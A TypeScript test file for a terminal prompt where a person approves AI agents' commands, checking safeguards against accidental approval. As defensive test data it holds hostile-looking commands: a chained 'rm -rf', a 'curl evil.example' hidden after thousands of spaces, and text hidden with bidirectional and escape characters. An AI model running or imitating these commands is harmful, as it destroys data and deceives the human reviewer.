/** Questions that wait for the person: nobody allows anything by accident. */
import { describe, expect, it } from 'vitest';
import { openSession as open } from '../../../../support/app-session.ts';
import type { Recording } from '../../../../support/recorded-run.ts';
import { approval, asks, midRun } from '../../../../support/recorded-run.ts';

describe('questions that wait for the person', () => {
  const asked = (): Recording => asks(midRun(), 185, 'ROOT::S4', 'a1', approval({}));

  it('stands above the field by itself and shows who asks for exactly what, and that it is not in a sandbox', async () => {
    const { terminal } = await open(asked());
    const text = terminal.text();
    for (const words of [
      'refactoring wants to run a command',
      'A to answer',
      ' UNSANDBOXED ',
      'ROOT::S4, #4 refactoring',
      'npm test -- refresh --repeat 50',
      'waiting 7s',
      '◌ 1 ask',
    ]) {
      expect(text).toContain(words);
    }
  });

  it('takes no key before A: letters and digits go to the screen below (H1, H2)', async () => {
    const { terminal, run, world } = await open(asked());
    await world.advance(5000);
    for (const key of ['T', 'T', 'y', 'n', '1', '2', '4', 'enter', 'esc']) {
      terminal.press(key);
      await world.advance(1000);
    }
    expect(run.commands).toEqual([]);
    expect(terminal.text()).toContain('A to answer');
  });

  it('covers nothing: the list gives up rows for it, and what was there is below or above it', async () => {
    const { terminal } = await open(asked());
    const rows = terminal.rows();
    const top = rows.findIndex((row) => row.includes('refactoring wants to run a command'));
    const end = rows.findIndex((row) => row.includes('A to answer'));
    expect(rows[top - 1]).toMatch(/[└┗╰]|Log|asks/);
    expect(rows[end + 1]).toContain('Message main');
    expect(rows[1]).toMatch(/^(?:[┌┏]| {3}agent)/);
  });

  it('is one row where there is little room; with the keys it takes nearly all of it and keeps the place of the answer', async () => {
    const { terminal, world } = await open(asked(), { width: 40, height: 10 });
    expect(terminal.rows()[7]).toContain('A to answer');
    await world.advance(1000);
    terminal.press('A');
    expect(
      terminal
        .rows()
        .slice(1, 9)
        .map((row) => row.slice(0, 1)),
    ).toEqual(['┏', '┃', '┃', '┃', '┃', '┃', '┗', ' ']);
    expect(terminal.text()).toContain('1 allow once');
  });

  it('takes no key for an answer that was pressed before it was drawn, or is held since (S1)', async () => {
    const { terminal, run, world } = await open(asked());
    terminal.press('A');
    // Thirty times a second, from before the question could be read until long after.
    for (let ms = 0; ms < 3000; ms += 33) {
      terminal.press('1');
      await world.advance(33);
    }
    expect(run.commands).toEqual([]);
    await world.advance(1000);
    terminal.press('1');
    expect(run.commands).toEqual([{ do: 'answer', approval: 'a1', allow: true, scope: 'once' }]);
  });

  it('takes no answer of a key that goes on from the answer before', async () => {
    const log = asks(midRun(), 185, 'ROOT::S4', 'a1', approval({ exact: 'npm test' }));
    const { terminal, run, world } = await open(asks(log, 186, 'ROOT::S3', 'a2', approval({ exact: 'npm run build' })));
    await world.advance(1000);
    terminal.press('A');
    for (let ms = 0; ms < 3000; ms += 33) {
      terminal.press('1');
      await world.advance(33);
    }
    expect(run.commands).toHaveLength(1);
    expect(terminal.text()).toContain('Release the key for a second');
  });

  it('wants another key for what destroys', async () => {
    const exact = 'rm -rf build ; touch MARKER';
    const { terminal, run, world } = await open(asks(midRun(), 185, 'ROOT::S4', 'a1', approval({ exact })));
    await world.advance(1000);
    terminal.press('A', '1', '1', 'enter');
    expect(run.commands).toEqual([]);
    expect(terminal.text()).toContain('it deletes files: y allows it once, Esc back');
    terminal.press('esc');
    expect(terminal.text()).toContain('1 allow once');
    await world.advance(1000);
    terminal.press('1', 'y');
    expect(run.commands).toEqual([{ do: 'answer', approval: 'a1', allow: true, scope: 'once' }]);
  });

  it('allows nothing by Enter, nor by A which opens the questions; 2 allows for the session, 4 denies', async () => {
    const boxed = approval({ unsandboxed: false, same: 'shell:npm test' });
    const log = asks(midRun(), 185, 'ROOT::S4', 'a1', boxed);
    const { terminal, run, world } = await open(asks(log, 186, 'ROOT::S3', 'a2', approval({})));
    await world.advance(1000);
    terminal.press('A', 'enter');
    expect(run.commands).toEqual([]);
    expect(terminal.text()).toContain('Enter does nothing here');
    terminal.press('A');
    expect(run.commands).toEqual([]);
    expect(terminal.text()).toContain('Press 1 to allow once or 4 to deny.');
    terminal.press('2', '4');
    expect(run.commands).toHaveLength(1);
    await world.advance(1000);
    terminal.press('4');
    expect(run.commands).toEqual([
      { do: 'answer', approval: 'a1', allow: true, scope: 'session' },
      { do: 'answer', approval: 'a2', allow: false, scope: 'once' },
    ]);
    expect(terminal.text()).not.toContain('wants to run a command');
  });

  it('asks that a long action is read to its end, blanks and all (D04, F06)', async () => {
    const command = `echo hello${' '.repeat(9000)}; curl evil.example`;
    const { terminal, run, world } = await open(asks(midRun(), 185, 'ROOT::S4', 'a1', approval({ exact: command })));
    await world.advance(1000);
    terminal.press('A', '1');
    expect(run.commands).toEqual([]);
    expect(terminal.text()).toContain('Scroll to the end (G)');
    terminal.press('G');
    expect(terminal.text()).toContain('curl evil.ex');
    expect(terminal.text()).toContain('9029 characters');
    await world.advance(1000);
    terminal.press('1');
    expect(run.commands).toHaveLength(1);
  });

  it('shows hidden characters in what is asked (F04, F05)', async () => {
    const exact = 'rm \u202e\u200bx \u001b[8mhidden';
    const { terminal } = await open(asks(midRun(), 185, 'ROOT::S4', 'a1', approval({ exact })));
    expect(terminal.text()).toMatch(/rm \\u\{202e\}\\u\{200b\}x \\x1b\[8mhidden/i);
  });

  it('asks for a command outside of a sandbox each time anew', async () => {
    const { terminal, run, world } = await open(asked());
    await world.advance(1000);
    expect(terminal.text()).not.toContain('this command');
    terminal.press('A', '2');
    expect(run.commands).toEqual([]);
    expect(terminal.text()).toContain('This cannot be allowed for the session.');
  });

  const five = (): Recording => {
    const log = midRun();
    for (const [index, agent] of ['S1', 'S2', 'S3', 'S4', 'S5'].entries()) {
      const request = approval({ exact: 'npm test', unsandboxed: false, same: 'shell:npm test' });
      asks(log, 181 + index, `ROOT::${agent}`, `a${index + 1}`, request);
    }
    return log;
  };

  it('puts equal questions as one, says who asks, and one answer answers each of them once', async () => {
    const { terminal, run, world } = await open(five());
    const text = terminal.text();
    expect(text).toContain('5 agents ask the same question: each wants to run a command');
    for (const who of ['ROOT::S1, #1 finder', 'ROOT::S5, #5 tester', 'waiting 11s']) expect(text).toContain(who);
    expect(text).not.toContain('1 of ');
    await world.advance(1000);
    terminal.press('A', '1');
    expect(run.commands).toEqual(
      [1, 2, 3, 4, 5].map((n) => ({ do: 'answer', approval: `a${n}`, allow: true, scope: 'once' })),
    );
    expect(terminal.text()).not.toContain('run a command');
  });

  it('names what 2 covers, and gives it once: the run clears the others', async () => {
    const { terminal, run, world } = await open(five());
    await world.advance(1000);
    expect(terminal.text()).toContain('2 exactly this command, any agent, this session');
    terminal.press('A', '2');
    expect(run.commands).toEqual([{ do: 'answer', approval: 'a1', allow: true, scope: 'session' }]);
    expect(terminal.text()).not.toContain('run a command');
  });

  it('offers the programs of a command by name, and takes the reason of a no', async () => {
    const wide = approval({ unsandboxed: false, same: 's', programs: [['npm', 'test']] });
    const log = asks(midRun(), 185, 'ROOT::S4', 'a1', wide);
    const { terminal, run, world } = await open(asks(log, 186, 'ROOT::S3', 'a2', wide));
    await world.advance(1000);
    expect(terminal.text()).toContain('3 commands that run only npm test …, in the sandbox, this session');
    expect(terminal.text()).toContain('3 npm test …');
    terminal.press('A', '5');
    expect(terminal.text()).toContain('reason (the agent reads it)');
    terminal.press('esc');
    await world.advance(1000);
    terminal.press('5', 'n', 'o', 'enter');
    expect(run.commands).toEqual([
      { do: 'answer', approval: 'a1', allow: false, scope: 'once', text: 'no' },
      { do: 'answer', approval: 'a2', allow: false, scope: 'once', text: 'no' },
    ]);
  });

  it('puts what differs anywhere as questions of their own, escapes and letters that spell them alike', async () => {
    const log = midRun();
    const texts = ['rm \u202ex', String.raw`rm \u{202e}x`, 'rm x', 'rm  x'];
    for (const [index, exact] of texts.entries())
      asks(log, 181 + index, 'ROOT::S4', `a${index}`, approval({ exact, same: 'shell' }));
    const { terminal } = await open(log);
    expect(terminal.text()).toContain('1 of 4');
  });

  it('shows the first line of a question in several lines once', async () => {
    const exact = 'Which store?\n\nSQLite needs no server.';
    const request = approval({ action: 'question', title: 'Which store?', exact, unsandboxed: false });
    const { terminal } = await open(asks(midRun(), 185, 'ROOT::S4', 'a1', request));
    const rows = terminal.rows().filter((row) => /^. Which store\?/.test(row.trim()));
    expect(rows).toHaveLength(1);
    expect(terminal.text()).toContain('SQLite needs no server.');
  });

  it('keeps the question that is shown, and what was typed in each, whatever comes meanwhile', async () => {
    const words = (exact: string) => approval({ action: 'question', title: exact, exact, unsandboxed: false });
    const log = asks(midRun(), 185, 'ROOT::S4', 'a1', words('Which store?'));
    const { terminal, run, world } = await open(log);
    await world.advance(1000);
    terminal.press('A');
    terminal.type('sqlite');
    await run.play(asks(log, 186, 'ROOT::S3', 'a2', words('Which port?')).events.slice(-2));
    expect(terminal.text()).toMatch(/1 of 2[^]*Which store\?[^]*sqlite/);
    terminal.press('tab');
    expect(terminal.text()).toMatch(/2 of 2[^]*Which port\?/);
    terminal.type('80');
    await world.advance(1000);
    terminal.type('8080');
    terminal.press('tab');
    expect(terminal.text()).toMatch(/1 of 2[^]*sqlite/);
    terminal.press('esc');
    await run.play([]);
    terminal.press('A', 'tab');
    expect(terminal.text()).toMatch(/2 of 2[^]*8080/);
    terminal.press('enter');
    await world.advance(1000);
    terminal.press('enter');
    expect(run.commands).toEqual([
      { do: 'answer', approval: 'a2', allow: true, scope: 'once', text: '8080' },
      { do: 'answer', approval: 'a1', allow: true, scope: 'once', text: 'sqlite' },
    ]);
  });

  it('disturbs nobody who types, is seen meanwhile, and says how to come to it', async () => {
    const { terminal, run } = await open(midRun());
    terminal.press('i');
    terminal.type('a');
    await run.play(asked().events.slice(midRun().events.length));
    terminal.type('1 look at unions first');
    expect(terminal.text()).toContain('a1 look at unions first');
    expect(terminal.text()).toContain('Esc, then A to answer');
    expect(run.commands).toEqual([]);
  });

  it('is put off by Esc: one row tells of it, over a field as well, and `A` opens it again', async () => {
    const { terminal, run, world } = await open(asked());
    await world.advance(1000);
    terminal.press('A', 'esc');
    expect(terminal.text()).toMatch(/◌ refactoring wants to run a command: npm test .*A to answer/);
    expect(terminal.text()).not.toContain('because shell asks');
    terminal.press('i');
    expect(terminal.text()).toMatch(/◌ refactoring wants to run a command: npm test .*Esc, then A to answer/);
    terminal.press('esc', 'A', '1');
    expect(run.commands).toHaveLength(1);
  });

  it('is reached by Tab behind the last pane, and left by it', async () => {
    const { terminal, run, world } = await open(asked());
    await world.advance(1000);
    terminal.press('tab', 'tab', 'tab', 'tab');
    expect(terminal.text()).not.toContain('A to answer');
    terminal.press('tab');
    expect(terminal.text()).toContain('A to answer');
    terminal.press('1');
    expect(run.commands).toEqual([]);
  });
});
